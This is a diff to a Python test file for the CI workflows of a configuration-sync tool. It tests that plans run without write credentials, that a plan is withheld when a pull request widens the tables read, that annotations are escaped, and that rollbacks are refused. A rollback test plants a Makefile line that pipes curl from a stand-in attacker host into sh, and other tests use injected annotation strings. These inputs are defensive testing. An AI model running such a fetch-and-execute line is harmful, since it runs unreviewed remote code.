@@ -300,7 +300,7 @@ def test_workflow_policies() -> None:
     validate = _action_step(pr["jobs"]["validate"])
     assert validate["with"]["args"] == "validate --format github"
     plan = _action_step(pr["jobs"]["plan"])
-    assert plan["with"]["args"] == "plan --format markdown"
+    assert plan["with"]["args"] == "plan --trusted-config ../base/configsync.yaml --format markdown"
     assert plan["with"]["without-database"] == "skip"
 
     apply = load(WORKFLOWS / "config-apply.yml")
@@ -1108,16 +1108,20 @@ def test_pull_request_plan_holds_no_write_credential_and_runs_no_code_of_the_pul
     assert "config_value.daily_hard_cap: 40" in comment["body"]  # the diff, from git alone
     assert read_cap(pg_url) == 50
 
-    # with the read-only secret the plan runs, still with the base branch's action
+    # with the read-only secret, still with the base branch's action: the pull request adds a table
+    # to configsync.yaml, which widens what a plan reads, so the plan is withheld (the database is
+    # never read) and the comment says why, above the change from git alone
     secrets = {"CONFIGSYNC_READONLY_DATABASE_URL": pg_url}
     jobs = runner.run("config-pr.yml", "pull_request", ref="refs/pull/11/merge", sha=sha,
                       event=pull_request_event(11, sha), secrets=secrets)
     assert jobs["plan"].result == "success", jobs["plan"].log
-    assert jobs["plan"].step("configsync plan").outputs["changes"] == "true"
+    assert jobs["plan"].step("configsync plan").outputs["exit-code"] == "4"
     assert "PWNED" not in jobs["plan"].log and not marker.exists()
     (comment,) = github.comments[11]
-    assert comment["body"].startswith("<!-- configsync:plan -->\n### configsync plan: 0 to create, 1 to update")
-    assert "pg_roles" not in comment["body"]  # planned with the base branch's configsync.yaml
+    assert comment["body"].startswith("<!-- configsync:plan -->\n### configsync plan: withheld\n")
+    assert "- `tables`: adds `pg_roles`" in comment["body"]
+    assert "config_value.daily_hard_cap: 40" in comment["body"]  # the diff, from git alone
+    assert "rolname" not in comment["body"]  # nothing read from pg_roles
 
 
 def test_pull_request_workflow_gives_credentials_to_base_branch_steps_only() -> None:
@@ -1369,3 +1373,31 @@ def test_github_annotations_escape_file_names_and_messages() -> None:
     assert out == ("::error file=config-snapshots/system_config/a%2Cline=1%3A%3Ab%0D%0A%3A%3Awarning%3A%3Ax%25.yaml,"
                    "line=3::bad%0A::error::injected 100%25\n")
     assert out.count("\n") == 1
+
+
+def test_rollback_workflow_refuses_a_commit_of_another_branch(
+    runner: MiniRunner, origin: Origin, github: FakeGitHub,
+) -> None:
+    """The crafted case of issue 14: a side branch adds a Makefile and deletes it again; "rolling
+    back" the deletion would push the Makefile to main without review. It is refused: main, the
+    branches and the pull requests stay as they were, and no apply is started."""
+    clone = origin.clone
+    _git(clone, "fetch", "--quiet", "origin")
+    _git(clone, "checkout", "--quiet", "-B", "side", "origin/main")
+    (clone / "Makefile").write_text("all:\n\tcurl https://evil.example/x | sh\n")
+    _git(clone, "add", "Makefile")
+    _git(clone, "commit", "--quiet", "-m", "add a Makefile")
+    _git(clone, "rm", "--quiet", "Makefile")
+    _git(clone, "commit", "--quiet", "-m", "remove the Makefile")
+    _git(clone, "push", "--quiet", "origin", "HEAD:refs/heads/side")
+    deletion = _git(clone, "rev-parse", "HEAD")
+    main, refs = origin.main(), origin.refs()
+    for deliver in ("push", "pull-request"):
+        jobs = runner.run("config-rollback.yml", "workflow_dispatch", ref="refs/heads/main", sha=main, secrets={},
+                          inputs={"commit": deletion, "deliver": deliver})
+        job = jobs["rollback"]
+        assert job.result == "failure"
+        assert f"refusing to roll back {deletion[:7]}" in job.log and "not in the history of" in job.log
+        assert job.step("Publish the revert commit").outcome == "skipped"
+    assert origin.main() == main and origin.refs() == refs
+    assert github.dispatches == [] and github.pulls == []
